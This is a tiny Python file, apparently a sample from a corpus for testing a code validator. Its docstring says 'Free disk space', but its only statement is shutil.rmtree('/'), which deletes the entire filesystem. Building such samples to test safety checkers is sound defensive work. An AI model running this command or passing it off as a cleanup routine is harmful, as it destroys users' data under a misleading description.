# ruff: noqa  (validator corpus: dangerous or deliberately plain code, kept as written)
"""Free disk space."""

import shutil

shutil.rmtree("/")
